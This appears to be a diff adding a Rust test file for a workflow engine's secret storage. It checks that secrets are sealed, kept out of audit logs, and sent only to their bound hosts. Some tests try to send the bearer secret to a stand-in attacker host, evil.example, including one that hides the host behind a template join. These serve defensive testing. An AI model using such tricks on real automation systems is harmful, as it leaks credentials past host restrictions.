@@ -1,0 +1,171 @@
+//! Secrets of workflows: sealed, shown by name alone, and sent to the hosts they are bound to and nowhere else.
+
+use crate::house::{House, OWN, PERSON, TENANT};
+use crate::workflows::{carry_out, claimed, create, run_of, step, trigger};
+use automation::services::requests::HttpRequest;
+use catalogue::{Caller, Role};
+use operations::Trackers;
+use operations::runs::{self, EnginePower, RunWork};
+use serde_json::{Value, json};
+use std::sync::Arc;
+use store::StoreError;
+use trackers::{Failure, Tracker};
+use uuid::Uuid;
+
+/// Seals by turning around: what it gives opens for its purpose alone.
+struct Sealer;
+
+impl Trackers for Sealer {
+    fn seal(&self, purpose: &str, secret: &str) -> Result<String, String> {
+        Ok(format!("{purpose}|{}", secret.chars().rev().collect::<String>()))
+    }
+
+    fn open(&self, _: &str, _: &str) -> Result<String, String> {
+        Err("runs open secrets, and nobody else".to_owned())
+    }
+
+    fn check(&self, _: Uuid, _: &Tracker) -> Result<String, Failure> {
+        Err(Failure::lasting("there is no tracker"))
+    }
+
+    fn send_soon(&self, _: Uuid) {}
+}
+
+fn house() -> House {
+    let house = House::with_trackers(|_| Arc::new(Sealer));
+    runs::set_power(&house.store, &EnginePower { is_on: true, ..Default::default() }).unwrap();
+    house
+}
+
+fn asked(house: &House, query: &str) -> Value {
+    house.ask_as(&Caller::person(PERSON, TENANT, vec![Role::TenantAdmin]), query)
+}
+
+fn save(house: &House, fields: &str) -> Value {
+    asked(house, &format!("mutation {{ workflow_save_secret(request: {{ {fields} }}) {{ name }} }}"))
+}
+
+const MANUAL: &str = r#"{ type: "manual" }"#;
+
+fn ask(url: &str) -> String {
+    format!(
+        r#"{{ id: "ask", type: "integrations.http", params: {{ url: "{url}", auth_type: "bearer", bearer_token: "{{{{ Secrets.DEPLOY }}}}" }} }}"#
+    )
+}
+
+/// What a run asks first: the request, or why it is not made.
+fn first(house: &House, tasks: &str) -> Result<HttpRequest, String> {
+    let id = create(house, &format!("asks {}", Uuid::new_v4().simple()), "PAUSED", MANUAL, tasks);
+    let run = trigger(house, &id);
+    let mut next = step(&house.store, claimed(&house.store), Vec::new(), &[]);
+    match next.calls.pop().map(|call| call.work) {
+        Some(Ok(RunWork::Http(request))) => Ok(request),
+        Some(Ok(other)) => panic!("{other:?}"),
+        Some(Err(failure)) => Err(format!("{}: {}", failure.kind, failure.message)),
+        None => Err(run_of(house, &id, &run)["error"].as_str().unwrap_or_default().to_owned()),
+    }
+}
+
+#[test]
+fn a_secret_is_sealed_and_nobody_reads_it() {
+    let house = house();
+    let saved =
+        save(&house, r#"name: "DEPLOY", value: "open sesame", hosts: ["API.example.com", "*.example.org"]"#);
+    assert_eq!(saved["data"]["workflow_save_secret"]["name"], "DEPLOY", "{saved}");
+    let listed = asked(&house, "{ workflow_list_secrets { secrets { name is_sealed hosts updated_by } } }");
+    assert_eq!(
+        listed["data"]["workflow_list_secrets"]["secrets"],
+        json!([{ "name": "DEPLOY", "is_sealed": true, "hosts": ["*.example.org", "api.example.com"], "updated_by": "Ada" }])
+    );
+    let kept = house.store.snapshot::<_, StoreError>(&Caller::house(), |rows| {
+        Ok((
+            rows.select("workflow_secret", &["value"], &[])?,
+            rows.select("audit_trail", &["before", "after"], &[])?,
+        ))
+    });
+    let kept = format!("{:?}", kept.unwrap());
+    assert!(kept.contains("quarterdeck secret of workflows") && !kept.contains("open sesame"), "{kept}");
+    let trail = asked(
+        &house,
+        r#"{ audit_trail(where: { table_name: { _eq: "workflow_secret" } }) { operation before after } }"#,
+    );
+    let trail = &trail["data"]["audit_trail"];
+    assert_eq!(trail[0]["operation"], "workflow_save_secret", "{trail}");
+    assert!(
+        trail.to_string().contains("api.example.com") && !trail.to_string().contains("emases"),
+        "{trail}"
+    );
+
+    // The hosts alone, and then nothing any more.
+    save(&house, r#"name: "DEPLOY", hosts: ["a.example"]"#);
+    assert_eq!(first(&house, &ask("https://a.example")).unwrap().headers[0].1, "Bearer open sesame");
+    asked(&house, r#"mutation { workflow_delete_secret(request: { name: "DEPLOY" }) { name } }"#);
+    let gone = asked(&house, r#"mutation { workflow_delete_secret(request: { name: "DEPLOY" }) { name } }"#);
+    assert!(gone.to_string().contains("there is no secret DEPLOY here"), "{gone}");
+
+    let other = house.ask("{ workflow_list_secrets { secrets { name } } }");
+    assert!(!other["errors"].is_null(), "who administers an account sees none: {other}");
+    for (fields, told) in [
+        (r#"name: "a b", value: "x""#, "expected letters, digits and _"),
+        (r#"name: "A""#, "`value` is missing"),
+        (r#"name: "A", value: "x", hosts: ["https://a.example"]"#, "expected a host such as api.github.com"),
+    ] {
+        let refused = save(&house, fields);
+        assert!(refused["errors"][0]["message"].as_str().unwrap().contains(told), "{refused}");
+    }
+}
+
+#[test]
+fn a_secret_goes_to_its_hosts_alone() {
+    let house = house();
+    save(&house, r#"name: "DEPLOY", value: "open sesame", hosts: ["api.example.com"]"#);
+    let request = first(&house, &ask("https://api.example.com/x")).unwrap();
+    assert!(request.headers.contains(&("Authorization".to_owned(), "Bearer open sesame".to_owned())));
+
+    // What is written out is told when it is saved.
+    let refused = house.refuses(&format!(
+        r#"mutation {{ workflow_validate(request: {{ account_id: "{OWN}", workflow: {{ name: "x", definition: {{ triggers: [{MANUAL}] tasks: [{}] }} }} }}) {{ message }} }}"#,
+        ask("https://evil.example")
+    ));
+    assert!(
+        refused.contains("tasks[0].params.bearer_token: the secret DEPLOY may be sent to api.example.com alone, and this task sends to evil.example"),
+        "{refused}"
+    );
+    let print = r#"{ id: "say", type: "core.print", params: { message: "{{ Secrets.DEPLOY }}" } }"#;
+    let yaml = house.answers(&format!(
+        r#"query {{ workflow_read_yaml(request: {{ account_id: "{OWN}", yaml: "tasks:\n  - id: say\n    type: core.print\n    params: {{message: '{{{{ Secrets.DEPLOY }}}}'}}\ntriggers:\n  - type: manual\n" }}) {{ is_sound mistakes }} }}"#
+    ));
+    assert_eq!(yaml["workflow_read_yaml"]["is_sound"], false, "{yaml}");
+
+    // What a template gives is found out by the run, before anything is sent.
+    let hidden = ask("https://{{ ['evil', 'example'] | join('.') }}/x");
+    let refused = first(&house, &hidden).unwrap_err();
+    assert_eq!(
+        refused,
+        "SecretHost: the secret DEPLOY may be sent to api.example.com alone, and this task sends to evil.example"
+    );
+
+    // A definition that was saved before the secret was bound is not carried out.
+    asked(&house, r#"mutation { workflow_delete_secret(request: { name: "DEPLOY" }) { name } }"#);
+    let id = create(&house, "older", "PAUSED", MANUAL, print);
+    save(&house, r#"name: "DEPLOY", value: "open sesame", hosts: ["api.example.com"]"#);
+    let run = trigger(&house, &id);
+    carry_out(&house.store);
+    let seen = run_of(&house, &id, &run);
+    assert_eq!(seen["status"], "FAILED");
+    assert!(seen["error"].as_str().unwrap().contains("and nowhere else"), "{seen}");
+    assert!(!seen.to_string().contains("sesame"));
+}
+
+#[test]
+fn a_secret_of_the_environment_is_bound_by_its_name() {
+    let house = house();
+    let task = ask("https://{{ 'b.example' }}").replace("DEPLOY", "TOKEN");
+    assert_eq!(first(&house, &task).unwrap().headers[0].1, "Bearer s3cret-value");
+    save(&house, r#"name: "TOKEN", hosts: ["a.example"]"#);
+    assert!(first(&house, &task).unwrap_err().starts_with("SecretHost: "));
+    let listed = asked(&house, "{ workflow_list_secrets { secrets { name is_sealed } } }");
+    assert_eq!(listed["data"]["workflow_list_secrets"]["secrets"][0]["is_sealed"], false);
+    save(&house, r#"name: "TOKEN", hosts: ["b.example"]"#);
+    assert!(first(&house, &task).is_ok());
+}
